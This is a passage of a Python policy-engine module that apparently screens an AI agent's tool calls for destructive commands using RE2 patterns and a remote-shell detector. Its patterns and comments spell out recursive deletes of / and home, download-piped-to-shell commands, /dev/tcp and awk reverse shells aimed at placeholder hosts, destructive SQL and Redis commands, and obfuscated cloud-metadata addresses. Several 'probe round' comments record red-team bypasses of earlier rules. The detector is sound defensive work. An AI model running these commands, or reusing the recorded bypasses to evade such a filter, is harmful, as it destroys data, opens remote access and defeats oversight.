"""Stage 1 destructive patterns: seed 004's table and seed 000's deny list, meant by what
they catch, not by their spelling.

Two views, both fail closed:

- **text**: RE2 patterns (case-insensitive, one pass) over the arguments' text, for every
  tool; plus a fork-bomb detector (any spacing, any function name) and a cloud-metadata
  address detector that normalises numeric spellings (``2852039166``, ``0xa9fea9fe``,
  ``0251.0376.0251.0376``, ``169.254.43518``, ``[::ffff:a9fe:a9fe]``...).
- **parsed Bash**: the catastrophic findings of the Bash analysis, and a structural check
  of every simple command's canonical argv (``rm`` recursive on ``/ /* ~ $HOME``,
  ``chmod 777``, ``dd of=/dev/...``, ``mkfs``, a download run by a shell).

For a Bash command, quoted text that is only an argument is data: the shell-shaped text
patterns apply to the command text only when the parser could not analyse it or when the
command hands text to an interpreter (``eval``, ``sh -c``, ``python -c``, a shell reading
standard input), where data becomes code. SQL and metadata-address patterns apply to
the command text (a quoted SQL string is what ``psql -c`` runs) unless every command
only reads, or only stores or moves text (a commit message, echo > migration.sql).
"""
from __future__ import annotations

import bisect
import dataclasses
import fnmatch
import ipaddress
import posixpath
import re
import socket
import unicodedata
from collections.abc import Sequence
from urllib.parse import unquote

import re2

from policy.engine.bash_types import BashAnalysis, SimpleCommand
from policy.engine.commands import (AGENT_PROMPT_PROGRAMS, PACKAGE_RUNNERS, STREAM_PATH, agent_prompt_indices,
                                    awk_runs_nothing, git_split_t, literal_print, literal_printed_texts,
                                    perl_substitutes_only, read_only, runner_agent)
from policy.engine.regexes import re2_found

SHELL = "shell"     # shell-shaped: only on text that runs
DATA = "data"       # meaningful wherever it appears

# (code, reason, kind, RE2 pattern) — all case-insensitive.
# A shell command's words are separated by blanks on one line (or a backslash-newline);
# a word here is never a JSON escape of a newline or a quote: the patterns stay within
# one line of a file's content, in its JSON spelling as in its raw one, and do not run
# from one argument's value into another's.
_SEP = r"(?:[ \t]|\\\r?\n)+"
_TOK = r"(?:[^\s\"\\]|\\[^nrt\"\\\s])+"
_LINE = r"(?:[^\n\\]|\\[^nr])"   # a character of the same line, raw or JSON-escaped
_Q = r"\\?[\"']"   # a quote, JSON-escaped or not
# the home directory as programs spell it
_HOME_IN_CODE = (r"(?:pathlib\.)?Path\.home\(\)|(?:os\.path\.)?expanduser\([ \t]*\\?[\"']~/?\\?[\"'][ \t]*\)|"
                 r"os\.environ(?:\.get\(|\[)[ \t]*\\?[\"']HOME|(?:os\.)?getenv\([ \t]*\\?[\"']HOME|"
                 r"process\.env\.HOME|Deno\.env\.get\([ \t]*\\?[\"']HOME|(?:require\([ \t]*\\?[\"'](?:node:)?os\\?[\"'][ \t]*\)|os)\.homedir\(\)|"
                 r"Dir\.home|ENV\[[ \t]*\\?[\"']HOME|\$ENV\{[ \t]*\\?[\"']?HOME|File\.expand_path\([ \t]*\\?[\"']~")
# calls that delete a tree, in the languages a runner tool runs
_TREE_DELETE_CALL = (r"(?:\brmtree|\bremove_tree|\brm(?:Sync)?|\brmdir(?:Sync)?|\bRemoveAll|\bremove_dir_all|"
                     r"\bremoveSync|\bDeno\.remove|\brimraf(?:\.sync)?|\bemptyDir(?:Sync)?|\bdeleteDirectory|\bdeleteRecursively|"
                     r"\bFileUtils\.(?:rm_rf|rm_r|remove_dir|remove_entry(?:_secure)?|rm)|"
                     # (probe round 35, redteam35) Elixir's File.rm_rf, Julia's rm(...; recursive=true)
                     r"\bFile\.rm_rf!?)")
# the home directory (or /) as a whole expression, in those languages
_HOME_EXPR = (rf"(?:pathlib\.)?Path\.home\(\)|(?:os\.path\.)?expanduser\([ \t]*{_Q}~/?{_Q}[ \t]*\)|"
              rf"os\.environ(?:\.get\([ \t]*{_Q}HOME{_Q}[^)\n]*\)|\[[ \t]*{_Q}HOME{_Q}[ \t]*\])|"
              rf"(?:os\.|System\.)?getenv\([ \t]*{_Q}(?:HOME|USERPROFILE){_Q}[ \t]*\)|"
              rf"process\.env(?:\.(?:HOME|USERPROFILE)\b|\[[ \t]*{_Q}HOME{_Q}[ \t]*\])|"
              # (probe round 34, residuals35) Deno's: Deno.env.get("HOME")!
              rf"Deno\.env\.get\([ \t]*{_Q}(?:HOME|USERPROFILE){_Q}[ \t]*\)!?|"
              rf"(?:(?:require\([ \t]*{_Q}(?:node:)?os{_Q}[ \t]*\)|os)\.)?homedir\(\)|Dir\.home\b(?:\(\))?|"
              rf"ENV(?:\[[ \t]*{_Q}HOME{_Q}[ \t]*\]|\.fetch\([ \t]*{_Q}HOME{_Q}[^)\n]*\))|"
              rf"\$ENV\{{[ \t]*{_Q}?HOME{_Q}?[ \t]*\}}|File\.expand_path\([ \t]*{_Q}~/?{_Q}[ \t]*\)|"
              rf"(?:(?:dirs|std::env|env|home)::)?home_dir\(\)(?:\.unwrap\(\)|\.expect\([^)\n]*\)|\?)?|"
              rf"(?:std::)?env::var\([ \t]*{_Q}HOME{_Q}[ \t]*\)(?:\.unwrap\(\)|\?)?|"
              rf"System\.getProperty\([ \t]*{_Q}user\.home{_Q}[ \t]*\)|FileUtils\.getUserDirectory\(\)|"
              # (probe round 35, redteam35) Elixir's System.user_home/0
              rf"System\.user_home!?(?:\(\))?|"
              rf"{_Q}/{_Q}|{_Q}\$HOME/?{_Q}|{_Q}%USERPROFILE%{_Q}")
# a path object made of it (new File(...), Paths.get(...), Path(...))
_WRAP = r"(?:(?:new[ \t]+File|Paths\.get|Path\.of|(?:pathlib\.)?Path|File)[ \t]*\([ \t]*)?"
# the metadata and credential endpoints (IMDS, ECS, EKS Pod Identity, Alibaba, Oracle)
_METADATA_V4 = ("169.254.169.254", "169.254.170.2", "169.254.170.23", "100.100.100.200", "192.0.0.192")


def _numeric_spellings(address: str) -> list[str]:
    """Hints of every numeric spelling inet_aton reads as ``address``: the whole address as
    one decimal, octal or hex number, and its first part in decimal, octal or hex before a
    dot (169.16689666, 0251.0376.0251.0376, 0xa9.254.169.254)."""
    n = int.from_bytes(socket.inet_aton(address), "big")
    first = int(address.split(".", 1)[0])
    return [str(n), rf"\b0+{n:o}\b", f"0x0*{n:x}", f"0x0*{first:x}", rf"0*{first:o}\.", rf"{first}\."]


# a hint that a numeric or encoded spelling of a metadata address may be present
# (probe round 33: every endpoint's spellings, not only 169.254.169.254's; curl http://1684301000/
# is 100.100.100.200, Alibaba's)
_METADATA_HINT_PATTERN = "|".join(dict.fromkeys(
    [x for a in _METADATA_V4 for x in _numeric_spellings(a)]
    + [r"a9fe", r"::ffff", r"%[0-9a-f]{2}", r"\[", r"--[0-9a-f-]*\.(?:sslip|nip)\.io", r"\{"]))
TEXT_PATTERNS: tuple[tuple[str, str, str, str], ...] = (
    ("rm_recursive_root", "recursive delete of / or home", SHELL,
     rf"\brm{_SEP}(?:--?[\w-]+{_SEP})*(?:-[a-z]*r[a-z]*|--recursive){_SEP}(?:--?[\w-]*{_SEP})*(?:\\?[\"'])?"
     # ($ENV{HOME}: CMake's and perl's words for it, in a recipe written then built;
     # probe round 30, redteam30)
     r"(?:/+\*?|/+\.|~/?\*?|\$home/?\*?|\$\{home\}/?\*?|\$\(home\)/?\*?|\$\$home/?\*?|\$\$\{home\}/?\*?|"
     r"\$env\{home\}/?\*?)"
     r"(?:[\s\"'\\;&|)\]`]|$)"),
    ("rm_recursive_root", "recursive delete of / or home", SHELL,
     rf"\brm{_SEP}(?:{_TOK}{_SEP})*?(?:/+\*?|~/?|\$home|\$\{{home\}}|\$\(home\)|\$\$home){_SEP}(?:{_TOK}{_SEP})*?"
     r"(?:-[a-z]*r[a-z]*|--recursive)\b"),
    ("rm_recursive_root", "recursive delete of / or home", SHELL,
     # the same in a program's own words (python -c, node -e, a script written):
     # rmtree / rmSync / FileUtils.rm_rf / rmtree of the home or of /
     rf"(?:\brmtree|\bremove_tree|\brm(?:Sync)?|\bFileUtils\.(?:rm_rf|rm_r|remove_dir|remove_entry(?:_secure)?))"
     rf"[ \t]*\(?[ \t]*(?:{_HOME_IN_CODE}|{_Q}/{_Q}|(?:pathlib\.)?Path\([ \t]*{_Q}[/~]{_Q}[ \t]*\))"
     # (the call ends there, or its next argument starts: not Path.home() / "x")
     rf"(?:(?:{_Q})?(?:[\])}}]+[ \t]*(?:[,;\n]|$|\\n|{_Q})|[ \t]*,)|\.expanduser\(\))"),
    ("rm_recursive_root", "recursive delete of / or home", SHELL,
     # "rm -rf " + os.environ["HOME"], "rm -rf ".getenv("HOME"), `rm -rf ${os.homedir()}`
     rf"\brm[ \t]+-[a-z]*r[a-z]*[ \t]*(?:{_Q}[ \t]*(?:\+|\.|,)[ \t]*|\$\{{[ \t]*)(?:{_HOME_IN_CODE})"),
    ("rm_recursive_root", "recursive delete of / or home", SHELL,
     # ...in more languages' words: Go's os.RemoveAll, Rust's remove_dir_all, node's
     # rmdirSync/fs-extra/rimraf, of the home however it is asked for (os.Getenv("HOME"),
     # dirs::home_dir(), System.getProperty("user.home"), expanduser('~') with blanks)
     rf"{_TREE_DELETE_CALL}[ \t]*\(?[ \t]*{_WRAP}(?:{_HOME_EXPR})[ \t]*(?:[),;\n\"]|\\[n\"]|$)"),
    ("sql_destructive", "destructive SQL (DROP/TRUNCATE)", DATA,
     # (comments between the words: /* */, -- and # to the end of the line, MySQL's
     # executable /*! ... */)
     r"(?:\b|/\*!\d*)(?:drop|truncate)(?:\s|/\*.*?\*/|\*/|/\*!\d*|--[^\n]*\n|#[^\n]*\n|\\[nrt])+"
     r"(?:table|database|schema|owned|keyspace)\b"),
    ("sql_destructive", "destructive SQL (DROP/TRUNCATE)", DATA,
     # a type, domain, extension or function dropped with everything that uses it
     r"\bdrop\s+(?:type|domain|extension|function|view|sequence)\b[^;]{0,1000}?\bcascade\b"),
    ("sql_destructive", "destructive SQL (DROP/TRUNCATE)", DATA,
     # TRUNCATE's TABLE is optional: TRUNCATE users; TRUNCATE a, b CASCADE
     r"\btruncate(?:\s|/\*.*?\*/|\\[nrt])+(?:only\s+)?[\w.\"`]+(?:\s*,\s*[\w.\"`]+)*\s*"
     # (the end of a statement, of the text, or of a JSON string value)
     r"(?:;|$|\\?\"\s*[,}\]]|\b(?:cascade|restrict|restart|continue)\b)"),
    ("db_destructive", "destructive database command (drop, flush)", DATA,
     # the same in MongoDB's and Redis' words: a database or collection dropped, every
     # key flushed (db.dropDatabase(), db.users.drop(), db.getCollection("x").drop(),
     # db["x"].drop(), {dropDatabase: 1}, {drop: "users"}, FLUSHALL, FLUSHDB)
     r"\bdropDatabase\s*\(|\bdropDatabase\\?[\"']?\s*:|\bdb\s*(?:\.\s*getSiblingDB\s*\([^)]*\)\s*)?(?:\.\s*getCollection\s*\([^)]*\)|\.\s*[\w$]+|"
     r"\[[^\]]*\])\s*\.\s*drop\s*\(|\brunCommand\s*\(\s*\{\s*\\?[\"']?drop\\?[\"']?\s*:|"
     # (Redis' command as a statement of its own: not a test named test_flushall, nor
     # pytest -k flushall; a Bash command feeding a Redis client is read in bash_findings)
     r"(?:^|[\n;\"'`]|\\n)\s*flush(?:all|db)\b"),
    ("db_destructive", "destructive database command (drop, flush)", DATA,
     # (probe round 31, mcp31) Cypher's every node or every relationship deleted: a MATCH of
     # a bare node (no label, no property, no WHERE) or of any relationship between bare
     # nodes, deleted at once (MATCH (n) DETACH DELETE n; MATCH (n) OPTIONAL MATCH
     # (n)-[r]-() DELETE n, r; MATCH ()-[r]->() DELETE r)
     r"(?i)\bmatch\s*\(\s*\w*\s*\)\s*(?:(?:<?-\s*\[\s*\w*\s*\]\s*->?\s*\(\s*\w*\s*\)\s*)|"
     r"optional\s+match\s*\(\s*\w*\s*\)\s*<?-\s*\[\s*\w*\s*\]\s*->?\s*\(\s*\w*\s*\)\s*)?"
     r"(?:detach\s+)?delete\b"),
    ("db_destructive", "destructive database command (drop, flush)", DATA,
     # (probe round 32, mcp32) the same in APOC's batches: every bare node returned by the
     # outer query, deleted by the inner one (apoc.periodic.iterate('MATCH (n) RETURN n',
     # 'DETACH DELETE n', {}))
     r"(?i)\bapoc\s*\.\s*periodic\s*\.\s*(?:iterate|commit)\s*\(\s*\\?[\"']\s*match\s*\(\s*\w*\s*\)\s*"
     r"(?:return|with)\s+[\w\s,*]+\\?[\"']\s*,\s*\\?[\"']\s*(?:with\s+[\w\s,*]+)?(?:detach\s+)?delete\b"),
    ("sql_program", "SQL that runs a program on the database host (COPY ... PROGRAM)", DATA,
     r"\bcopy\b[^;]{0,1000}?\b(?:to|from)(?:\s|/\*.*?\*/)+program\b"),
    ("sql_program", "SQL that runs a program on the database host (xp_cmdshell, sys_exec)", DATA,
     # SQL Server's shell and OLE automation, MySQL's lib_mysqludf_sys functions
     r"\bxp_cmdshell\b|\bsp_oa(?:create|method)\b|\bsys_(?:exec|eval)\s*\("),
    ("pipe_to_shell", "download piped to a shell", SHELL,
     rf"\b(?:curl|wget|fetch|aria2c)\b{_LINE}*?\|[ \t]*(?:sudo[ \t]+(?:-\S+[ \t]+)*)?(?:env[ \t]+)?(?:\S*/)?"
     r"(?:(?:ba|z|da|k|c|tc|fi|a)?sh|python[0-9.]*|perl|ruby|node|php)\b"),
    ("pipe_to_shell", "download run by a shell", SHELL,
     r"(?:\b(?:ba|z|da|k)?sh|\bsource|(?:^|[\s;&|])\.|\bpython[0-9.]*|\bperl|\bruby|\bnode|\bphp)\s+(?:-\S+\s+)*"
     r"(?:\d*<\s*)?<\(\s*(?:sudo\s+)?(?:curl|wget)\b"),
    ("pipe_to_shell", "download run by a shell", SHELL,
     r"\b(?:ba|z|da|k)?sh\s+-c\s+[\"']?\s*(?:\$\(|`)\s*(?:curl|wget)\b"),
    ("remote_shell", "a shell or program is served to the network (a reverse or bind shell)", SHELL,
     # what the grammar cannot read (exec 3<>/dev/tcp/h/p; sh <&3 >&3 2>&3), as text: a
     # socket opened on a descriptor that a shell then reads, or whose lines are run
     r"(?s)/dev/+(?:tcp|udp)/.*?(?:^|[;&|\n({]|\bexec|\bdo|\bthen)\s*(?:\S*/)?(?:ba|z|da|k|a)?sh\b[^|;&\n]*<&\s*\d"
     r"|(?s)/dev/+(?:tcp|udp)/.*?\bread\b.*?\bdo\s+(?:eval\s+|(?:ba|z|da|k)?sh\s+-c\s+)?[\"']?\$\{?\w"
     # (probe round 34, residuals35) the socket's descriptor read by a command piped into a
     # shell or an interpreter (exec 5<>/dev/tcp/h/p; cat <&5 | sh), given to eval, or read
     # as a script's file (bash /dev/fd/5, source /dev/fd/5); zsh's ztcp socket ($REPLY) so
     r"|(?s)/dev/+(?:tcp|udp)/.*?<&\s*\d+[^|;&\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+)?(?:\S*/)?"
     r"(?:(?:(?:ba|z|da|k|c|tc|fi|a)?sh|xargs)\b"
     # (probe round 34, benign38) an interpreter reads its program there only when given
     # none of its own: not python3 -m json.tool, jq's neighbours, node script.js, perl -e
     r"|(?:python[0-9.]*|perl|ruby|node|php|lua|tclsh)(?:[ \t]+(?:-[WX][ \t]*\S+|-[abd-ln-oq-zA-Z0-9]\S*))*"
     r"[ \t]*(?:\z|[|;&)\n]|-(?:\s|\z|[|;&)])))"
     r"|(?s)/dev/+(?:tcp|udp)/.*?\beval\b[^;&|\n]*<&\s*\d"
     r"|(?s)/dev/+(?:tcp|udp)/.*?(?:\bsource|(?:^|[\s;&|({])\.|\b(?:ba|z|da|k|a)?sh|\bpython[0-9.]*|\bperl|\bruby)"
     r"\s+(?:-\S+\s+)*/dev/+fd/+\d"
     r"|(?s)\bztcp\b.*?(?:^|[;&|\n({]|\bexec|\bdo|\bthen)\s*(?:\S*/)?(?:ba|z|da|k|a)?sh\b[^|;&\n]*[<>]&\s*\$"
     r"|(?s)\bztcp\b.*?<&\s*\$\{?\w+\}?[^|;&\n]*\|\s*(?:\S*/)?(?:(?:ba|z|da|k|a)?sh|python[0-9.]*|perl|ruby)\b"
     r"|(?s)\bztcp\b.*?\beval\b[^;&|\n]*<&\s*\$"
     # (probe round 32, redteam32c) a shell whose input is a socket opened read-write
     # (bash -i <>/dev/tcp/h/p >&0 2>&1, sh 0<>/dev/tcp/h/p: <> the grammar cannot read)
     r"|(?:^|[;&|\n({]|\bexec|\bdo|\bthen)\s*(?:\S*/)?(?:ba|z|da|k|a)?sh\b(?:[^|;&\n]|[<>]&)*?\d?<>?\s*/+dev/+(?:tcp|udp)/"
    # ((probe round 45, pwsh45) a socket opened read-write so, behind a wrapper too: sudo bash -c 'exec
    # 3<>/dev/tcp/h/p' was less strict than the line alone; timeout 1 bash -c '</dev/tcp/h/80', a port's
    # check, stays asked: round 36's exfil36)
    # ((probe round 47, interp47 and redteam47) and behind a chain of them: sudo timeout 5 bash
    # -c '...', sudo env bash -c 'exec 3<>/dev/tcp/h/p' were asked where env bash -c was denied)
    r"|(?:^|[;&|\n({]|\bexec|\bdo|\bthen)\s*(?:(?:sudo|env|nice|nohup|command)\s+(?:-\S+\s+)*|timeout\s+(?:-\S+\s+)*\S+\s+){1,4}"
    r"(?:\S*/)?(?:ba|z|da|k|a)?sh\b(?:[^|;&\n]|[<>]&)*?\d?<>\s*/+dev/+(?:tcp|udp)/"),
    ("chmod_777", "world-writable permissions (chmod 777)", SHELL,
     rf"\bchmod{_SEP}(?:-\S+{_SEP})*(?:0?777|a\+rwx|ugo\+rwx)\b"),
    ("dd_device", "dd writing to a device", SHELL,
     r"\bdd\b(?:[^|;&\n\\]|\\[^nr])*\bof\s*=\s*/dev/(?:sd|hd|nvme|disk|rdisk|mmcblk|vd|xvd|loop|md|dm-|mapper|sr|nbd)"),
    ("mkfs", "filesystem formatting (mkfs)", SHELL, r"\bmkfs(?:\.\w+)?\b"),
    ("metadata_address", "cloud metadata service address", DATA,
     r"169[.\-_]254[.\-_]169[.\-_]254|\bmetadata\.google\.internal\b|\bmetadata\.goog\b|fd00:ec2::254|"
     # ECS task credentials, Alibaba, Oracle, NAT64, the short metadata host names
     r"169[.\-_]254[.\-_]170[.\-_]2\b|100[.\-_]100[.\-_]100[.\-_]200|192[.\-_]0[.\-_]0[.\-_]192\b|"
     r"64:ff9b::a9fe:a9fe|//(?:[^/@\s]*@)?(?:metadata|instance-data)\.?(?:[:/?#]|$)|"
     # EKS Pod Identity; the EC2 name; the hex label DNS wildcard services resolve
     # (a9fea9fe.nip.io is 169.254.169.254)
     r"169[.\-_]254[.\-_]170[.\-_]23\b|fd00:ec2::23\b|\binstance-data\.ec2\.internal\b|\ba9fea9fe\b|"
     # Tencent Cloud, Equinix Metal (Packet), DigitalOcean's and Hetzner's names for it
     r"\bmetadata\.tencentyun\.com\b|\bmetadata\.packet\.net\b|\bmetadata\.platformequinix\.com\b"),
    # not a finding: a hint that a numeric spelling of the metadata address may be present
    ("metadata_hint", "", "hint", _METADATA_HINT_PATTERN),
    # not a finding: a tree deleted by a call whose argument is a name (home_variable_deleted)
    ("tree_delete_hint", "", "hint", rf"{_TREE_DELETE_CALL}[ \t]*\(?[ \t]*\$?[A-Za-z_]\w*[ \t]*(?:[),;\n]|$)"),
)

_DOTS = str.maketrans({"\u3002": ".", "\uff0e": ".", "\uff61": "."})
_OPTIONS = re2.Options()
_OPTIONS.case_sensitive = False
_OPTIONS.log_errors = False
_OPTIONS.max_mem = 32 << 20
_SET = re2.Set.SearchSet(_OPTIONS)
_SET.Add("")
for _code, _reason, _kind, _pattern in TEXT_PATTERNS:
    _SET.Add(_pattern)
_SET.Compile()
_SINGLE = [re2.compile(p, options=_OPTIONS) for _c, _r, _k, p in TEXT_PATTERNS]

# cheap prefilter before the numeric-address parser runs
_METADATA_HINT = re.compile(_METADATA_HINT_PATTERN, re.I)

_NUMERIC_HOST = re.compile(r"(?<![\w.])(?:0x[0-9a-f]+|\d+)(?:\.(?:0x[0-9a-f]+|\d+)){0,3}(?![\w])", re.I)
# (starting only where a run of address characters starts, its first group at most four
# digits: linear time; "[0-9a-f]*:" from every position of a long hex run was quadratic)
_V6 = re.compile(r"(?<![0-9a-f:.])[0-9a-f]{0,4}:[0-9a-f:.]*:[0-9a-f:.]+", re.I)
# the metadata and credential endpoints (IMDS, ECS, EKS Pod Identity, Alibaba, Oracle): every numeric spelling
_METADATA_V4_ALL = frozenset(socket.inet_aton(a) for a in _METADATA_V4)
_METADATA_V6 = {ipaddress.IPv6Address("fd00:ec2::254"), ipaddress.IPv6Address("fd00:ec2::23")}

# (RE2: linear time; a long run of name characters with no "(" after it made the
# backtracking engine try every start and every length)
# a script that starts itself twice, through a pipe or in the background ($0|$0&,
# bash "$0" & bash "$0"): each copy does the same
_SELF = r"""(?:(?:ba|z|da|k)?sh[ \t]+)?["']?\$\{?0\}?["']?"""
_SELF_SPAWN = re2.compile(rf"\$\{{?0\}}?[\"']?[ \t]*(?:\|[ \t]*{_SELF}[ \t]*&|&[ \t]*{_SELF}(?:[^\w$]|$))")
_FUNCNAME = re.compile(r"\$\{?FUNCNAME(?:\[0?\])?\}?")
_FORK_DEF = re2.compile(r"(?:\bfunction\s+([^\s(){}|&;<>]+)\s*(?:\(\s*\))?|([^\s(){}|&;<>`$\"']+)\s*\(\s*\))\s*\{")

SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "csh", "tcsh", "ash", "busybox"})
INTERPRETERS = SHELLS | frozenset({
    "python", "python2", "python3", "perl", "ruby", "node", "php", "lua", "deno", "bun", "osascript", "tsx", "ts-node",
})
DOWNLOADERS = frozenset({"curl", "wget", "fetch", "aria2c", "http", "https", "xh"})
CODE_RUNNERS = frozenset({"eval", "source", ".", "exec"})
# (probe round 31, redteam31c) programs whose code on the command line joins literals
_CODE_TAKERS = INTERPRETERS | {"mongosh", "mongo"}
_PRINTF_ESCAPE = re.compile(r"\\[ntrvfab]")
# programs that run what they are given later (a crontab, an at job)
SCHEDULERS = frozenset({"crontab", "at", "batch"})
_SCHEDULER_QUERIES = frozenset({"-l", "-r", "-i", "-c", "-V", "-q", "--help"})
# programs that read their program from a file they are given (-f FILE)
PROGRAM_FILE_READERS = frozenset({"make", "gmake", "awk", "gawk", "mawk", "nawk", "sed", "gsed", "m4"})
# a stream given by name: standard input, an inherited or redirected descriptor, <(cmd)
# (as an option's value too: -f/dev/stdin, --file=/dev/fd/63)
_STREAM_WORD = re.compile(rf"(?:-[A-Za-z]+|--[\w-]+=)?(?:{STREAM_PATH})")
# ...which these only read as data (diff <(a) <(b), comm, paste)
STREAM_DATA_READERS = frozenset({
    "cat", "diff", "cmp", "comm", "paste", "join", "sdiff", "wc", "head", "tail", "sort", "uniq", "grep", "egrep",
    "fgrep", "rg", "jq", "yq", "tac", "nl", "od", "xxd", "hexdump", "base64", "md5sum", "sha1sum", "sha256sum",
    "sha512sum", "cut", "tr", "column", "fold", "fmt", "less", "more", "file", "strings", "tee", "echo", "printf",
    "colordiff", "delta", "git", "vimdiff", "wdiff", "dwdiff", "cksum", "b2sum", "expand", "unexpand", "rev",
})
# Redis and its forks: FLUSHALL / FLUSHDB anywhere in a command that runs one (an
# argument, a pipe or a here-string into it) empties the database
REDIS_CLIENTS = frozenset({"redis-cli", "valkey-cli", "keydb-cli", "dragonfly-cli"})
_REDIS_FLUSH = re.compile(r"(?i)\bflush(?:all|db)\b")
_REDIS_STATEMENTS = frozenset({"flushall", "flushdb", "FLUSHALL", "FLUSHDB"})


# probe round 26: interpreter code that opens a socket and hands it a shell (a reverse
# or bind shell in python -c, perl -e, ruby -e, php -r, node -e, lua -e, awk): both a
# socket and a shell's plumbing must be there; a port check or an HTTP client has no
# shell, a build script's os.system() no socket
_CODE_SOCKET = re2.compile(
    r"\bsocket\s*\.\s*(?:socket|create_connection|create_server|fromfd)\b|"
    r"\bsocket\s*\(\s*(?:socket\s*\.\s*)?[AP]F_INET6?\b|\bsocket\s*\(\s*[\w$]+\s*,\s*[AP]F_INET|"
    r"\b(?:TCP|UDP)Socket\b|\bTCPServer\b|\bfsockopen\s*\(|\bstream_socket_(?:client|server)\s*\(|"
    r"\bSocket\s*\.\s*tcp\s*\(|\bsocket_create\s*\(|\bnet\s*\.\s*(?:connect|createConnection|Socket|createServer)\b|\bIO::Socket\b|"
    r"\bsockaddr_in\b|/inet6?/(?:tcp|udp)/|\bnet\s*\.\s*Dial\b|\bTcpClient\b|\bjava\.net\.Socket\b|"
    r"\bnew\s+Socket\s*\(|\bsocket\s*\.\s*(?:tcp|connect)\s*\(|/dev/(?:tcp|udp)/|"
    r"\brequire\s*\(?\s*[\"']socket[\"']|"
    # (round 28) the module under another name: python's import socket [as S], from socket
    # import ..., __import__('socket'); node's require('net') and new n.Socket()
    r"\bimport\s+(?:[\w.]+\s*(?:as\s+\w+\s*)?,\s*)*socket\b|\bfrom\s+socket\s+import\b|"
    r"__import__\s*\(\s*[\"']socket[\"']|\brequire\s*\(\s*[\"'](?:node:)?net[\"']|"
    r"\bnew\s+[\w$]+\s*\.\s*Socket\s*\(|"
    # (probe round 35, left35) Tcl's socket command ([socket HOST PORT], socket -server),
    # Julia's Sockets (using Sockets; connect(h, p), Sockets.connect, listen), R's
    # socketConnection / make.socket
    r"(?:^|[\[;{\n])\s*socket\s+(?:-\w+\s+)*[\w$.:\[\]-]+|\b(?:using|import)\s+Sockets\b|"
    r"\bSockets\s*\.\s*(?:connect|listen)\b|\bsocketConnection\s*\(|\bmake\.socket\s*\(")
_CODE_SHELL = re2.compile(
    r"\bdup2?\s*\(|\bpty\s*\.\s*spawn\b|/bin/(?:ba|z|da|k|c|tc|a)?sh\b|[\"'](?:ba|z|da|k)?sh(?:\s+-i)?[\"']|"
    r"(?i:\bcmd(?:\.exe)?[\"']|\bpowershell(?:\.exe)?[\"'])|\bopen\s*\(\s*STDIN\s*,|"
    r"\.pipe\s*\(\s*[\w$]+\s*\.\s*stdin\s*\)|\bstdin\s*=\s*[\w$.]+\s*(?:\.\s*(?:makefile|fileno)|,)|"
    r"\bio\s*\.\s*popen\b|\bsystem\s*\(\s*[\w$]+\s*\)|"
    # (round 27) a command read from the socket and run: ruby's `#{...}` and %x{#{...}},
    # IO.popen, lua's os.execute(var), perl's system$_ / exec$_
    r"`#\{|%x[({\[]\s*#\{|\bIO\s*\.\s*popen\s*\(|\bos\s*\.\s*execute\s*\(\s*[A-Za-z_]|"
    r"\b(?:system|exec)\s*\(?\s*\$_\b|"
    # (round 28) a shell whose descriptors are redirected to the socket's (php's
    # shell_exec("sh <&3 >&3 2>&3")); php running what it read (shell_exec(fgets($s)),
    # passthru($cmd))
    r"\b(?:ba|z|da|k|a)?sh\b(?:\s+-i)?\s*\d?[<>]&\s*\d|"
    r"\b(?:shell_exec|passthru|popen|proc_open|pcntl_exec|system|exec)\s*\(\s*(?:\$\w+|(?:fgets|fread|"
    r"stream_get_line|socket_read)\s*\()|"
    # (probe round 35, left35) Tcl running what it read (exec $c, exec {*}$c, [exec [gets
    # $s]], eval [gets $s], a pipe to a shell opened with open "|sh"); Julia's command
    # literal of a variable (`sh -c $c`, `$c`) or Cmd(...); R's pipe(readLines(s)),
    # system(readLines(s))
    r"\b(?:exec|eval)\s+(?:\{\*\}\s*)?(?:\$\w|\[\s*gets\b)|\bexec\s+(?:/bin/)?(?:ba|z|da|k|a)?sh\b|"
    r"\bopen\s+[\"{]?\|\s*(?:\$|\[|(?:/bin/)?(?:ba|z|da|k|a)?sh\b)|\beval\s*\(\s*Meta\s*\.\s*parse\s*\(|`\s*(?:(?:/bin/)?(?:ba|z|da|k|a)?sh\s+-c\s+)?\$\(?[A-Za-z_]|"
    r"\bCmd\s*\(\s*(?:split\s*\(\s*)?(?:readline\s*\(\s*)?[A-Za-z_]\w*\s*\)|"
    r"\b(?:pipe|system2?)\s*\(\s*readLines\s*\(|"
    # (probe round 35, left35) perl's qx($_), ruby's Open3 of a variable, node's
    # execSync(data.toString()), python running what recv() returned
    r"\bqx\s*[({\[/]\s*\$|\bOpen3\s*\.\s*\w+\s*\(\s*[A-Za-z_$]|"
    r"\b(?:execSync|exec)\s*\(\s*[A-Za-z_$][\w$]*\s*\.\s*toString\s*\(|"
    r"\b(?:check_output|run|call|Popen|getoutput|getstatusoutput|system|popen)\s*\(\s*[\w.]+\s*\.\s*recv\s*\(")
# awk's coprocesses and pipes: a command held in a variable (c | getline, c |& getline,
# print ... |& c, system(c)) beside the /inet socket's own name
_AWK_INET_NAME = re.compile(r"(\w+)\s*=\s*\"/inet6?/")
_AWK_RUN_NAME = re.compile(r"(\w+)\s*\|&?\s*getline|\|&\s*(\w+)|\bsystem\s*\(\s*(\w+)\s*\)")


def remote_shell_code(src: str) -> bool:
    """Does interpreter code both open a network socket and give a shell its input and
    output (dup2 onto the socket, pty.spawn, exec of /bin/sh -i with the socket's
    descriptors, a child's stdin piped from it)?"""
    if _CODE_SOCKET.search(src) is None:
        return False
    if _CODE_SHELL.search(src) is not None:
        return True
    if "/inet" in src and "getline" in src:
        # awk: BEGIN{s="/inet/tcp/0/h/p"; while((s |& getline c)>0) while((c | getline o)>0)
        # print o |& s}: a command read from the socket and run (a name that is not the socket's)
        sockets = set(_AWK_INET_NAME.findall(src))
        ran = {n for m in _AWK_RUN_NAME.finditer(src) for n in m.groups() if n and n != "getline"}
        return bool(ran - sockets - {"NR", "NF", "FILENAME"})
    return False


def remote_shell_in_file(src: str, lines: int) -> bool:
    """remote_shell_code for a whole source file (probe round 28, benign28), which holds
    far more than a one-liner: a shell's plumbing must be tied to a socket the code makes.
    A dup2 of a file the code opened (a log file or /dev/null onto stdout, a daemon's
    set-up) or of sys.std* is no plumbing; a shell's name in a string (``"/bin/sh"``,
    ``["sh", "-c", ...]``) counts within ``lines`` lines of a socket's use; any other
    plumbing (dup2 of anything else, ``stdin=s.fileno()``, pty.spawn, IO.popen) counts
    anywhere. A plain ``import socket`` (for gethostname) makes no socket; the module under
    another name (``import socket as S``, ``from socket import``, a ``require``, an
